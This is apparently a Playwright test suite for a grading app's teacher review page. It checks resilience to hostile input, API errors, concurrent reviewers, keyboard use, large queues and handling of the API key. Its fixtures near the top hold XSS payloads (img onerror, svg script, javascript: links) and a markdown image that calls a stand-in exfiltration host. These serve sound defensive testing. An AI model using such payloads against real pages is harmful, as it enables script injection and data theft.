import type { BrowserContext, Page, Route } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { sampleFromSchema } from "../helpers/sample-replies.js";
import { scienceRubric } from "../helpers/rubric-fixtures.js";
import {
  browserRequired,
  chromiumFound,
  screenshot,
  seriousViolations,
  startHarness,
  type Harness,
} from "./teacher-page-harness.js";

/**
 * The teacher page as a hostile student and a busy teacher meet it: student text with markup, bidi
 * overrides and unbroken 20,000-character words; the API failing in the middle of a decision (401, 403,
 * 409, 412, 429, 503); two reviewers on one grade; a double approval; the keyboard alone; a queue of
 * thousands. Each test uses its own rubric (its id is what the queue shows), so the tests share one server
 * and one browser without depending on each other's order.
 */

/** What the fake model writes into every free-text field of its reply for answers that carry `MODEL-HTML`. */
const modelHtml = `<img src=x onerror="window.__pwned='model'"><a href="javascript:window.__pwned='link'">see</a>`;
const hostileHtml = [
  `<img src=x onerror="window.__pwned='img'">`,
  `<svg onload="window.__pwned='svg'"><script>window.__pwned='script'</script></svg>`,
  `[click me](javascript:window.__pwned='md')`,
  `![x](http://exfiltrate.example/steal?answer=1)`,
  `<a href="javascript:window.__pwned='a'">a link</a>`,
  "MODEL-HTML",
].join(" ");

describe.skipIf(!chromiumFound && !browserRequired)(
  "the teacher page against hostile text and a failing API",
  { timeout: 120_000 },
  () => {
    let harness: Harness;
    let context: BrowserContext;
    let page: Page;
    const teacher = () => ({ authorization: `Bearer ${harness.teacherKey}` });
    const otherHosts: string[] = [];

    /** A copy of the science rubric under `id` (the queue shows the id), optionally with other titles. */
    const uploadRubric = async (id: string, changes: Partial<typeof scienceRubric> = {}) => {
      const response = await harness.app.app.inject({
        method: "POST",
        url: "/v1/rubrics",
        headers: teacher(),
        payload: { ...scienceRubric, id, ...changes },
      });
      expect(response.statusCode, response.body).toBe(201);
    };
    /** Grades an answer through the API; the fake model's evidence is not in it, so it needs review. */
    const gradeForReview = async (rubricId: string, answer: string) => {
      const response = await harness.app.app.inject({
        method: "POST",
        url: "/v1/grade",
        headers: teacher(),
        payload: { rubricId, answer },
      });
      expect(response.statusCode, response.body).toBe(200);
      const grade = response.json<{ id: string; status: string; version: number; groupId: string | null }>();
      expect(grade.status).toBe("needs_review");
      return grade;
    };
    const readGrade = async (id: string) =>
      (await harness.app.app.inject({ method: "GET", url: `/v1/grades/${id}`, headers: teacher() })).json<{
        status: string;
        version: number;
        feedback: string;
        criteria: { criterionId: string; points: number | null; comment: string | null }[];
      }>();

    const queue = () => page.getByRole("list", { name: "Answers to review" });
    /** Opens the review screen on the (only) queue entry of `rubricId`. */
    const openEntry = async (rubricId: string) => {
      await page.goto(`${harness.baseUrl}/app/#/rubrics`);
      await page.getByRole("link", { name: "Review" }).click();
      const entry = queue().getByRole("button", { name: new RegExp(`^${rubricId} `) });
      await entry.first().waitFor();
      await entry.first().click();
      await page.getByRole("heading", { name: new RegExp(` · ${rubricId}$`) }).waitFor();
    };
    const signIn = async (target: Page = page) => {
      await target.goto(`${harness.baseUrl}/app/`);
      await target.getByLabel("API key").fill(harness.teacherKey);
      await target.getByLabel("Your name").fill("Ms Rivera");
      await target.getByRole("button", { name: "Sign in" }).click();
      await target.getByRole("heading", { name: "Rubrics", level: 1 }).waitFor();
    };

    beforeAll(async () => {
      harness = await startHarness();
      harness.fake.setDefault({
        kind: "respond",
        handler: (request) => {
          if (!request.schema) return "ok";
          const reply = sampleFromSchema(request.schema, { evidenceQuotes: ["not in the answer"] });
          if (!(request.answer ?? "").includes("MODEL-HTML")) return reply;
          return JSON.parse(JSON.stringify(reply).replaceAll('"sample text"', JSON.stringify(modelHtml)));
        },
      });
      context = await harness.browser.newContext({ viewport: { width: 1280, height: 900 } });
      // Nothing the page shows may reach another host (a markdown image would tell it the answer).
      await context.route(
        (url) => !url.href.startsWith(harness.baseUrl),
        (route) => {
          otherHosts.push(route.request().url());
          return route.abort();
        },
      );
      page = await context.newPage();
      await signIn();
    }, 120_000);
    afterAll(async () => {
      await harness?.close();
    }, 60_000);
    beforeEach(async () => {
      await page.unrouteAll({ behavior: "ignoreErrors" });
    });

    it("shows markup in answers, model text and rubric titles as text: nothing runs, nothing loads", async () => {
      await uploadRubric("xss-probe", { title: `<img src=x onerror="window.__pwned='title'">` });
      await gradeForReview("xss-probe", hostileHtml);
      await openEntry("xss-probe");
      const detail = page.locator(".review-detail");
      await detail.getByText("[click me](javascript:", { exact: false }).first().waitFor();
      expect(await detail.locator("img, svg, script, a, iframe, object").count()).toBe(0);
      expect(await detail.locator(".answer").textContent()).toContain(`<img src=x onerror=`);
      expect(await page.locator(".rationale").first().textContent()).toBe(modelHtml);
      expect(await page.evaluate("window.__pwned")).toBeUndefined();
      expect(otherHosts).toEqual([]);
      await screenshot(page, "hostile-01-markup");
    });

    it("keeps a 20,000-character word inside its box", async () => {
      await uploadRubric("long-probe");
      await gradeForReview("long-probe", `Plants need ${"w".repeat(19_900)} light.`);
      await openEntry("long-probe");
      const answer = page.locator(".review-detail .answer");
      const box = await answer.evaluate((element) => ({
        scroll: element.scrollWidth,
        client: element.clientWidth,
      }));
      expect(box.scroll).toBeLessThanOrEqual(box.client);
      expect(await page.evaluate("document.documentElement.scrollWidth")).toBeLessThanOrEqual(1280);
      await screenshot(page, "hostile-02-long-word", false);
    });

    it("keeps a bidi override in a criterion title from reversing the points beside it", async () => {
      await uploadRubric("bidi-probe", {
        criteria: [
          scienceRubric.criteria[0]!,
          { ...scienceRubric.criteria[1]!, title: "Outputs\u202e", maxPoints: 12 },
        ],
      });
      await gradeForReview("bidi-probe", "Plants make sugar \u202eand oxygen 12 from light.");
      await openEntry("bidi-probe");
      // Where the browser draws the "(", the "1" and the "2" of "(of 12)": left to right, in that order.
      const order: { open: number; one: number; two: number } | null = await page.evaluate(`(() => {
        const label = [...document.querySelectorAll("label")].find((each) => each.textContent.includes("(of 12)"));
        const walker = document.createTreeWalker(label, NodeFilter.SHOW_TEXT);
        for (let node = walker.nextNode(); node; node = walker.nextNode()) {
          const at = node.textContent.indexOf("(of 12)");
          if (at === -1) continue;
          const x = (offset) => {
            const range = document.createRange();
            range.setStart(node, at + offset);
            range.setEnd(node, at + offset + 1);
            return range.getBoundingClientRect().x;
          };
          return { open: x(0), one: x(4), two: x(5) };
        }
        return null;
      })()`);
      expect(order).not.toBeNull();
      expect(order!.one).toBeLessThan(order!.two);
      expect(order!.open).toBeLessThan(order!.one);
      await screenshot(page, "hostile-03-bidi", false);
    });

    /** Answers a request as the API would answer an error. */
    const apiError = (route: Route, status: number, code: string, headers: Record<string, string> = {}) =>
      route.fulfill({
        status,
        contentType: "application/json",
        headers,
        body: JSON.stringify({ error: { code, message: `The test answered ${status} ${code}.` } }),
      });
    /** Types a comment on criterion 1, its points and the feedback, as a teacher would. */
    const typeEdits = async (comment: string) => {
      await page.getByLabel(/^Points for Inputs/).fill("1");
      await page.getByLabel(/^Comment on Inputs/).fill(comment);
      await page.getByLabel("Feedback for the student").fill(`Feedback: ${comment}`);
    };
    const expectEditsKept = async (comment: string) => {
      expect(await page.getByLabel(/^Points for Inputs/).inputValue()).toBe("1");
      expect(await page.getByLabel(/^Comment on Inputs/).inputValue()).toBe(comment);
      expect(await page.getByLabel("Feedback for the student").inputValue()).toBe(`Feedback: ${comment}`);
    };

    it("keeps what the teacher typed when a save meets 403, 409, 429 or 503, and saves it afterwards", async () => {
      await uploadRubric("failing-probe");
      const grade = await gradeForReview("failing-probe", "Plants need light and water.");
      await openEntry("failing-probe");
      const comment = "Water and light, but not carbon dioxide.";
      await typeEdits(comment);
      for (const [status, code] of [
        [403, "forbidden"],
        [409, "appeal_open"],
        [429, "too_many_failed_attempts"],
        [503, "storage_unavailable"],
      ] as const) {
        await page.route("**/v1/grades/*", (route) =>
          route.request().method() === "PATCH"
            ? apiError(route, status, code, { "retry-after": "30" })
            : route.fallback(),
        );
        await page.getByRole("button", { name: /^Save changes/ }).click();
        await page
          .getByRole("alert")
          .filter({ hasText: `(${code})` })
          .waitFor();
        await expectEditsKept(comment);
        await page.unrouteAll({ behavior: "ignoreErrors" });
      }
      await page.getByRole("button", { name: /^Save changes/ }).click();
      await page.getByRole("status").filter({ hasText: "Saved: the grade is now yours." }).waitFor();
      const stored = await readGrade(grade.id);
      expect(stored.criteria.find((criterion) => criterion.criterionId === "inputs")).toMatchObject({
        points: 1,
        comment,
      });
      expect(stored.feedback).toBe(`Feedback: ${comment}`);
    });

    it("keeps what the teacher typed through a 401: after signing in again the edit is there to save", async () => {
      await uploadRubric("expired-probe");
      const grade = await gradeForReview("expired-probe", "Plants need light and soil.");
      await openEntry("expired-probe");
      const comment = "Soil is not a reactant.";
      await typeEdits(comment);
      await page.route("**/v1/grades/*", (route) =>
        route.request().method() === "PATCH" ? apiError(route, 401, "unauthorized") : route.fallback(),
      );
      await page.getByRole("button", { name: /^Save changes/ }).click();
      await page.getByText("Your key is no longer accepted").waitFor();
      await page.unrouteAll({ behavior: "ignoreErrors" });
      await page.getByLabel("API key").fill(harness.teacherKey);
      await page.getByLabel("Your name").fill("Ms Rivera");
      await page.getByRole("button", { name: "Sign in" }).click();
      await page.getByRole("heading", { name: / · expired-probe$/ }).waitFor();
      await expectEditsKept(comment);
      await page.getByRole("button", { name: /^Save changes/ }).click();
      await page.getByRole("status").filter({ hasText: "Saved: the grade is now yours." }).waitFor();
      expect((await readGrade(grade.id)).criteria[0]).toMatchObject({ points: 1, comment });
    });

    it("refuses a stale save of a grade another reviewer changed, says so, and keeps both edits", async () => {
      await uploadRubric("stale-probe");
      const grade = await gradeForReview("stale-probe", "Plants need light, water and air.");
      await openEntry("stale-probe");
      const other = await harness.app.app.inject({
        method: "PATCH",
        url: `/v1/grades/${grade.id}`,
        headers: { ...teacher(), "if-match": `"${grade.version}"` },
        payload: { reviewer: "Mr Okafor", reason: "Second marker", feedback: "Okafor's feedback." },
      });
      expect(other.statusCode, other.body).toBe(200);
      const comment = "Air is vague: name carbon dioxide.";
      await typeEdits(comment);
      await page.getByRole("button", { name: /^Save changes/ }).click();
      await page
        .getByRole("alert")
        .filter({ hasText: /changed this grade since you opened it/ })
        .waitFor();
      await expectEditsKept(comment);
      const stored = await readGrade(grade.id);
      expect(stored.feedback).toBe("Okafor's feedback.");
      expect(stored.criteria[0]!.comment).toBeNull();
    });

    it("refuses a stale decision on a group another reviewer decided, instead of overwriting theirs", async () => {
      await uploadRubric("group-probe");
      const first = await gradeForReview("group-probe", "Plants need sunshine.");
      await gradeForReview("group-probe", "Plants need sunshine.");
      await openEntry("group-probe");
      await page.getByRole("heading", { name: /^2 identical answers/ }).waitFor();
      const other = await harness.app.app.inject({
        method: "PATCH",
        url: `/v1/groups/${first.groupId}`,
        headers: teacher(),
        payload: { reviewer: "Mr Okafor", reason: "Second marker", feedback: "Okafor's group feedback." },
      });
      expect(other.statusCode, other.body).toBe(200);
      await typeEdits("Only the energy source.");
      await page.getByRole("button", { name: /^Save changes/ }).click();
      await page
        .getByRole("alert")
        .filter({ hasText: /changed this group's decision since you opened it/ })
        .waitFor();
      await expectEditsKept("Only the energy source.");
      expect((await readGrade(first.id)).feedback).toBe("Okafor's group feedback.");
    });

    it("approves once when the teacher presses a twice or double-clicks Approve", async () => {
      await uploadRubric("double-probe");
      await gradeForReview("double-probe", "Plants need light for energy.");
      await gradeForReview("double-probe", "Plants need water for energy.");
      const approvals: string[] = [];
      await page.route("**/v1/grades/*/approve", async (route) => {
        approvals.push(route.request().url());
        await new Promise((resolve) => setTimeout(resolve, 300));
        await route.fallback();
      });
      await openEntry("double-probe");
      await page.locator(".review-detail").focus();
      await page.keyboard.press("a");
      await page.keyboard.press("a");
      await page.getByRole("status").filter({ hasText: "Approved." }).waitFor();
      await expect
        .poll(() =>
          queue()
            .getByRole("button", { name: /^double-probe / })
            .count(),
        )
        .toBe(1);
      expect(approvals).toHaveLength(1);
      expect(await page.getByRole("alert").count()).toBe(0);

      await queue()
        .getByRole("button", { name: /^double-probe / })
        .click();
      await page.getByRole("button", { name: /^Approve/ }).dblclick();
      await expect
        .poll(() =>
          queue()
            .getByRole("button", { name: /^double-probe / })
            .count(),
        )
        .toBe(0);
      expect(approvals).toHaveLength(2);
      expect(await page.getByRole("alert").count()).toBe(0);
    });

    it("works by keyboard alone: the actions are named, and a decision leaves focus on the next answer", async () => {
      await uploadRubric("keys-probe");
      await gradeForReview("keys-probe", "Plants need light, the first answer.");
      await gradeForReview("keys-probe", "Plants need light, the second answer.");
      await openEntry("keys-probe");
      expect(await seriousViolations(page)).toEqual([]);
      const approve = page.getByRole("button", { name: /^Approve/ });
      expect(await approve.getAttribute("aria-keyshortcuts")).toBe("a");
      await approve.focus();
      await page.keyboard.press("Enter");
      await page.getByRole("status").filter({ hasText: "Approved." }).waitFor();
      await expect
        .poll(() =>
          queue()
            .getByRole("button", { name: /^keys-probe / })
            .count(),
        )
        .toBe(1);
      // Focus stays in the review area (not lost to the page's top), so Tab and the keys carry on.
      await expect
        .poll(() => page.evaluate("document.activeElement.closest('.review-detail') !== null"))
        .toBe(true);
    });

    it("pages a queue of thousands without freezing, and says that more are waiting than it lists", async () => {
      await uploadRubric("many-probe");
      await gradeForReview("many-probe", "Plants need light, water and carbon dioxide.");
      const real = await harness.app.app.inject({
        method: "GET",
        url: "/v1/review-queue?rubricId=many-probe",
        headers: teacher(),
      });
      const template = real.json<{ entries: { grade: { id: string; criteria: object[] } }[] }>().entries[0]!;
      const total = 3000;
      const entries = Array.from({ length: total }, (_, index) => {
        const id = `grd_many${String(index).padStart(5, "0")}`;
        const confidence = 0.5 + (index % 40) / 100;
        return {
          ...template,
          firstGradeId: id,
          groupId: null,
          size: 1,
          pending: 1,
          grade: {
            ...template.grade,
            id,
            criteria: template.grade.criteria.map((criterion) => ({ ...criterion, confidence })),
          },
        };
      });
      const pagesRead: string[] = [];
      await page.route("**/v1/review-queue*", (route) => {
        const url = new URL(route.request().url());
        pagesRead.push(url.search);
        const limit = Number(url.searchParams.get("limit") ?? 20);
        const start = Number(url.searchParams.get("cursor") ?? 0);
        const next = start + limit < total ? String(start + limit) : null;
        return route.fulfill({
          contentType: "application/json",
          body: JSON.stringify({ entries: entries.slice(start, start + limit), next }),
        });
      });
      await page.goto(`${harness.baseUrl}/app/#/rubrics`);
      await page.getByRole("link", { name: "Review" }).click();
      await page.getByRole("heading", { name: / · many-probe$/ }).waitFor();
      expect(await queue().getByRole("button").count()).toBeLessThan(total);
      await page.getByText("more are waiting behind them").waitFor();
      // Read in pages of at most 100, and no further than the list shows.
      expect(pagesRead.length).toBeLessThanOrEqual(5);
      expect(pagesRead.every((search) => search.includes("limit=100"))).toBe(true);
      // The keys still answer on a long list.
      await page.locator(".review-detail").focus();
      await page.keyboard.press("j");
      await expect.poll(() => queue().getByRole("button").nth(1).getAttribute("aria-current")).toBe("true");
      await screenshot(page, "hostile-10-many", false);
    });

    it("sends its security headers, no framing by another site included, with every file", async () => {
      const index = await fetch(`${harness.baseUrl}/app/`);
      const html = await index.text();
      const files = [...html.matchAll(/(?:src|href)="(assets\/[^"]+)"/g)].map((match) => match[1]!);
      expect(files.length).toBeGreaterThanOrEqual(2);
      for (const response of [
        index,
        ...(await Promise.all(files.map((file) => fetch(`${harness.baseUrl}/app/${file}`)))),
      ]) {
        if (!response.bodyUsed) await response.arrayBuffer();
        expect(response.headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
        expect(response.headers.get("x-content-type-options")).toBe("nosniff");
        expect(response.headers.get("referrer-policy")).toBe("no-referrer");
      }
    });

    it("keeps the key out of every place another origin, a log or a later visitor reads", async () => {
      // A tab of its own: sessionStorage is the tab's.
      const tab = await context.newPage();
      const messages: string[] = [];
      tab.on("console", (message) => messages.push(message.text()));
      await signIn(tab);
      await tab.getByRole("link", { name: "Review" }).click();
      await tab.getByRole("link", { name: "Grade" }).click();
      await tab.getByRole("heading", { name: "Grade one answer" }).waitFor();
      expect(await tab.evaluate("localStorage.length")).toBe(0);
      expect(await context.cookies()).toEqual([]);
      expect(tab.url()).not.toContain(harness.teacherKey);
      expect(await tab.evaluate("document.documentElement.outerHTML")).not.toContain(harness.teacherKey);
      expect(messages.join("\n")).not.toContain(harness.teacherKey);
      const stored: string = await tab.evaluate("JSON.stringify(Object.entries(sessionStorage))");
      expect(stored).toContain(harness.teacherKey);
      await tab.getByRole("button", { name: "Sign out" }).click();
      expect(await tab.evaluate("sessionStorage.length")).toBe(0);
      await tab.close();
    });
  },
);
